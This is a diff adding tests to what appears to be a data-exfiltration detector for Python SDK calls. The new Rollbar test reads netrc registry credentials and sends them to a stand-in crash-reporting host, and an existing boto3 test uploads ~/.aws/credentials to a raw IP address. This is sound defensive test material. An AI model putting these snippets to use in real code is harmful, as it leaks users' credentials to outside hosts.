@@ -37,6 +37,33 @@ describe('SDK channels', () => {
     expect(s?.data.taints).toContain('system-info');
   });
 
+  it('Rollbar reports go to the configured endpoint with their extra data', async () => {
+    const { of } = await py(
+      [
+        'import netrc, rollbar',
+        'rollbar.init("tok", environment="ci", endpoint="https://crash-intake.example.invalid/api/1/")',
+        'login = netrc.netrc().authenticators("registry.example.org")',
+        'rollbar.report_message("sync started", level="info", extra_data={"login": login})',
+        'rollbar.report_exc_info(payload_data={"stage": "upload"})',
+        '',
+      ].join('\n'),
+    );
+    const sends = of('send');
+    expect(sends.map((s) => s.endpoint.host)).toEqual([
+      'crash-intake.example.invalid',
+      'crash-intake.example.invalid',
+    ]);
+    expect(sends[0]?.data.secret).toBe('registry-token');
+    expect(sends.every((s) => s.channel === 'telemetry')).toBe(true);
+  });
+
+  it('Rollbar without an endpoint reports to its own API', async () => {
+    const { of } = await py(
+      'import rollbar\nrollbar.init("tok")\nrollbar.report_message("deploy finished")\n',
+    );
+    expect(of('send')[0]?.endpoint.host).toBe('api.rollbar.com');
+  });
+
   it('boto3 upload to an outside endpoint reads the file', async () => {
     const { of } = await py(
       'import boto3\ns3 = boto3.client("s3", endpoint_url="https://45.133.1.40:9000")\ns3.upload_file("/home/u/.aws/credentials", "b", "k")\n',
